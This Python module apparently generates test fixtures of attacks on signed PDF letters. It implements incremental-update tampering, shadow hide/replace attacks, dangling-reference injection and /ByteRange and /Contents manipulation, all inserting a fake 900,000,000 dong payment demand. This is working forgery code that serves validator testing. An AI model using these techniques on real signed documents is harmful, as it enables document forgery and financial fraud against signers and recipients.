"""Attacks on signed letters, built the way an attacker would: incremental updates after signing (content, a
page, an annotation, a form field), shadow attacks prepared before signing (hide, replace, hide-and-replace;
Mainka/Mladenov/Rohlmann 2021) and byte-level tampering (byte range, /Contents, re-pointed signature)."""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

__all__ = [
    "add_annotation",
    "add_content",
    "add_form_field",
    "add_page",
    "empty_contents",
    "resign_other_revision",
    "shadow_dangling",
    "shadow_hide",
    "shadow_hide_and_replace",
    "shadow_prepare_dangling",
    "shadow_prepare_hide",
    "shadow_prepare_hide_and_replace",
    "shadow_prepare_replace",
    "shadow_replace",
    "skip_bytes_in_range",
]

EVIL = b"SO TIEN PHAI NOP: 900.000.000 DONG"
"""What the attacker wants the reader to see (ASCII: the standard Helvetica font needs no embedding)."""


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data))


def _out(w: IncrementalPdfFileWriter) -> bytes:
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _page(w: IncrementalPdfFileWriter, ix: int = 0) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    ref, _resources = w.find_page_for_modification(ix)
    return ref, ref.get_object()


def _helvetica(w: IncrementalPdfFileWriter) -> generic.IndirectObject:
    return w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"),
        pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"),
    }))


def _set_resource(w: IncrementalPdfFileWriter, page: generic.DictionaryObject, category: str, name: str,
                  value: generic.PdfObject) -> None:
    """``/Resources /<category> /<name> value`` on ``page``, whatever is direct or indirect there."""
    raw_res = page.raw_get("/Resources")
    resources = raw_res.get_object()
    raw_cat = resources.raw_get(category) if category in resources else None
    if raw_cat is None:
        resources[pdf_name(category)] = generic.DictionaryObject({pdf_name(name): value})
    elif isinstance(raw_cat, generic.IndirectObject):
        cat = raw_cat.get_object()
        cat[pdf_name(name)] = value
        w.update_container(cat)
    else:
        raw_cat[pdf_name(name)] = value
    if isinstance(raw_res, generic.IndirectObject):
        w.update_container(resources)


def _add_font_resource(w: IncrementalPdfFileWriter, page: generic.DictionaryObject, name: str) -> None:
    _set_resource(w, page, "/Font", name, _helvetica(w))


def _contents_list(page: generic.DictionaryObject) -> generic.ArrayObject:
    raw = page.raw_get("/Contents")
    if isinstance(raw, generic.ArrayObject):
        return raw
    return generic.ArrayObject([raw])


def _text(x: int, y: int, text: bytes, font: str = "/DXEvil", size: int = 14) -> bytes:
    return b"BT %s %d Tf %d %d Td (%s) Tj ET" % (font.encode(), size, x, y, text)


# -- after signing: incremental updates ---------------------------------------------------------------------
def add_content(signed: bytes) -> bytes:
    """A new content stream drawn on page 1."""
    w = _writer(signed)
    _ref, page = _page(w)
    _add_font_resource(w, page, "/DXEvil")
    contents = _contents_list(page)
    contents.append(w.add_object(generic.StreamObject(stream_data=_text(90, 700, EVIL))))
    page[pdf_name("/Contents")] = contents
    w.update_container(page)
    return _out(w)


def add_page(signed: bytes) -> bytes:
    """A whole new page at the end."""
    w = _writer(signed)
    _ref, first = _page(w)
    page = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Page"),
        pdf_name("/MediaBox"): first["/MediaBox"],
        pdf_name("/Resources"): generic.DictionaryObject({
            pdf_name("/Font"): generic.DictionaryObject({pdf_name("/DXEvil"): _helvetica(w)}),
        }),
        pdf_name("/Contents"): w.add_object(generic.StreamObject(stream_data=_text(90, 700, EVIL))),
    })
    w.insert_page(page)
    return _out(w)


def add_annotation(signed: bytes) -> bytes:
    """A free-text annotation ("comment") on page 1."""
    w = _writer(signed)
    ref, page = _page(w)
    annot = w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"),
        pdf_name("/Subtype"): pdf_name("/FreeText"),
        pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in (90, 600, 500, 640)]),
        pdf_name("/Contents"): generic.TextStringObject(EVIL.decode()),
        pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
        pdf_name("/P"): ref,
    }))
    annots = page.get("/Annots")
    if annots is None:
        page[pdf_name("/Annots")] = generic.ArrayObject([annot])
    else:
        annots.append(annot)
        if isinstance(page.raw_get("/Annots"), generic.IndirectObject):
            w.update_container(annots)
    w.update_container(page)
    return _out(w)


def _text_field(w: IncrementalPdfFileWriter, page_ref: generic.IndirectObject, name: str, rect: tuple[int, ...],
                value: bytes = b"") -> tuple[generic.IndirectObject, generic.IndirectObject]:
    appearance = w.add_object(generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"),
        pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(0), generic.NumberObject(0),
                                                generic.NumberObject(rect[2] - rect[0]),
                                                generic.NumberObject(rect[3] - rect[1])]),
        pdf_name("/Resources"): generic.DictionaryObject({
            pdf_name("/Font"): generic.DictionaryObject({pdf_name("/DXEvil"): _helvetica(w)}),
        }),
    }, stream_data=(b"1 1 1 rg 0 0 %d %d re f 0 g " % (rect[2] - rect[0], rect[3] - rect[1])
                    + _text(4, 8, value)) if value else b""))
    field = w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"),
        pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/FT"): pdf_name("/Tx"),
        pdf_name("/T"): generic.TextStringObject(name),
        pdf_name("/V"): generic.TextStringObject(value.decode()),
        pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
        pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in rect]),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
        pdf_name("/P"): page_ref,
    }))
    return field, appearance


def _attach_field(w: IncrementalPdfFileWriter, page: generic.DictionaryObject, field: generic.IndirectObject) -> None:
    acroform = w.root["/AcroForm"]
    fields_arr = acroform["/Fields"]
    fields_arr.append(field)
    if isinstance(acroform.raw_get("/Fields"), generic.IndirectObject):
        w.update_container(fields_arr)
    if isinstance(w.root.raw_get("/AcroForm"), generic.IndirectObject):
        w.update_container(acroform)
    else:
        w.update_root()
    annots = page.get("/Annots")
    if annots is None:
        page[pdf_name("/Annots")] = generic.ArrayObject([field])
    else:
        annots.append(field)
        if isinstance(page.raw_get("/Annots"), generic.IndirectObject):
            w.update_container(annots)
    w.update_container(page)


def add_form_field(signed: bytes) -> bytes:
    """A new text field showing text over the letter."""
    w = _writer(signed)
    ref, page = _page(w)
    field, _ap = _text_field(w, ref, "GhiChu", (90, 600, 500, 630), EVIL)
    _attach_field(w, page, field)
    return _out(w)


# -- shadow attacks: prepared before signing, triggered after ------------------------------------------------
def shadow_prepare_hide(letter: bytes) -> bytes:
    """The shadow document: the attacker's text drawn under a white overlay the signer sees instead."""
    w = _writer(letter)
    _ref, page = _page(w)
    _add_font_resource(w, page, "/DXEvil")
    contents = _contents_list(page)
    contents.append(w.add_object(generic.StreamObject(stream_data=_text(95, 605, EVIL))))
    contents.append(w.add_object(generic.StreamObject(stream_data=b"q 1 1 1 rg 90 595 440 30 re f Q")))
    page[pdf_name("/Contents")] = contents
    w.update_container(page)
    return _out(w)


def shadow_hide(signed: bytes) -> bytes:
    """Trigger: redefine the overlay stream as empty (same object number), revealing the hidden text."""
    w = _writer(signed)
    _ref, page = _page(w)
    contents = page.raw_get("/Contents")
    contents = contents.get_object() if isinstance(contents, generic.IndirectObject) else contents
    overlay = contents.raw_get(len(contents) - 1)
    w.mark_update(overlay)
    w.objects[(overlay.generation, overlay.idnum)] = generic.StreamObject(stream_data=b"")
    return _out(w)


def shadow_prepare_replace(letter: bytes) -> bytes:
    """The shadow document: an empty, borderless text field placed over the letter's body."""
    w = _writer(letter)
    ref, page = _page(w)
    field, _ap = _text_field(w, ref, "NoiDung", (90, 595, 530, 625), b"")
    _attach_field(w, page, field)
    return _out(w)


def shadow_replace(signed: bytes) -> bytes:
    """Trigger: "fill in" the field (value and appearance), overlaying new text on the signed body."""
    w = _writer(signed)
    field_ref = None
    for f in w.root["/AcroForm"]["/Fields"]:
        if f.get_object().get("/T") == "NoiDung":
            field_ref = f
    assert field_ref is not None, "not a shadow document"
    field = field_ref.get_object()
    ap = w.add_object(generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"),
        pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(0), generic.NumberObject(0),
                                                generic.NumberObject(440), generic.NumberObject(30)]),
        pdf_name("/Resources"): generic.DictionaryObject({
            pdf_name("/Font"): generic.DictionaryObject({pdf_name("/DXEvil"): _helvetica(w)}),
        }),
    }, stream_data=b"1 1 1 rg 0 0 440 30 re f 0 g " + _text(4, 8, EVIL)))
    field[pdf_name("/V")] = generic.TextStringObject(EVIL.decode())
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): ap})
    w.mark_update(field_ref)
    return _out(w)


def shadow_prepare_hide_and_replace(letter: bytes) -> bytes:
    """The shadow document: the page draws form XObject /Ov (empty) through an indirect resource dictionary;
    the attacker's content sits in another, unused XObject of the same file."""
    w = _writer(letter)
    _ref, page = _page(w)
    bbox = generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)])

    def form(data: bytes) -> generic.IndirectObject:
        return w.add_object(generic.StreamObject({
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): bbox,
            pdf_name("/Resources"): generic.DictionaryObject({
                pdf_name("/Font"): generic.DictionaryObject({pdf_name("/DXEvil"): _helvetica(w)}),
            }),
        }, stream_data=data))

    innocent = form(b"")
    evil = form(b"q 1 1 1 rg 90 595 440 30 re f Q 0 g " + _text(95, 605, EVIL))
    xobjects = w.add_object(generic.DictionaryObject({pdf_name("/Ov"): innocent, pdf_name("/Spare"): evil}))
    raw_res = page.raw_get("/Resources")
    resources = raw_res.get_object()
    resources[pdf_name("/XObject")] = xobjects
    if isinstance(raw_res, generic.IndirectObject):
        w.update_container(resources)
    contents = _contents_list(page)
    contents.append(w.add_object(generic.StreamObject(stream_data=b"q /Ov Do Q")))
    page[pdf_name("/Contents")] = contents
    w.update_container(page)
    return _out(w)


def shadow_hide_and_replace(signed: bytes) -> bytes:
    """Trigger: re-point /Ov at the attacker's XObject (one dictionary rewritten)."""
    w = _writer(signed)
    _ref, page = _page(w)
    xobj_ref = page["/Resources"].get_object().raw_get("/XObject")
    xobjects = xobj_ref.get_object()
    xobjects[pdf_name("/Ov")] = xobjects.raw_get("/Spare")
    w.mark_update(xobj_ref)
    return _out(w)


# -- byte-level tampering -------------------------------------------------------------------------------------
_BR = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def _last_byte_range(data: bytes) -> re.Match[bytes]:
    matches = list(_BR.finditer(data))
    assert matches, "no /ByteRange"
    return matches[-1]


def skip_bytes_in_range(signed: bytes, skip: int = 16) -> bytes:
    """Widen the last signature's unsigned gap (rewriting /ByteRange in place, same width) so that the
    ``skip`` bytes just before the signature value are no longer signed — bytes an attacker may now change."""
    m = _last_byte_range(signed)
    a, b, c, d = (int(x) for x in m.groups())
    new = b"/ByteRange [%d %d %d %d]" % (a, b - skip, c, d)
    old = m.group(0)
    assert len(new) <= len(old)
    new = new[:-1] + b" " * (len(old) - len(new)) + b"]"
    return signed[: m.start()] + new + signed[m.end():]


def empty_contents(signed: bytes) -> bytes:
    """Zero the last signature's /Contents (same length): no CMS any more."""
    m = _last_byte_range(signed)
    _a, b, c, _d = (int(x) for x in m.groups())
    return signed[:b] + b"<" + b"0" * (c - b - 2) + b">" + signed[c:]


def resign_other_revision(signed: bytes) -> bytes:
    """Append a revision that changes the page and re-writes the (unchanged) signature dictionary in it: the
    signature now sits in a revision its byte range does not cover."""
    w = _writer(add_content(signed))
    fields_arr = w.root["/AcroForm"]["/Fields"]
    last_sig = None
    for f in fields_arr:
        v = f.get_object().raw_get("/V") if "/V" in f.get_object() else None
        if isinstance(v, generic.IndirectObject):
            last_sig = v
    assert last_sig is not None
    last_sig.get_object()
    w.mark_update(last_sig)
    return _out(w)


# -- a forward reference: the signed page points at an object that does not exist yet ---------------------------
DANGLING = 9000


def shadow_prepare_dangling(letter: bytes) -> bytes:
    """The shadow document: page 1's content array ends with a reference to an object that is not defined (a
    reference to null: nothing is drawn)."""
    w = _writer(letter)
    _ref, page = _page(w)
    _add_font_resource(w, page, "/DXEvil")
    contents = _contents_list(page)
    contents.append(generic.IndirectObject(DANGLING, 0, w))
    page[pdf_name("/Contents")] = contents
    w.update_container(page)
    return _out(w)


def shadow_dangling(signed: bytes) -> bytes:
    """Trigger: define the missing object after signing, drawing on the signed page."""
    w = _writer(signed)
    w.objects[(0, DANGLING)] = generic.StreamObject(stream_data=_text(95, 605, EVIL))
    w.mark_update(generic.IndirectObject(DANGLING, 0, w))
    return _out(w)
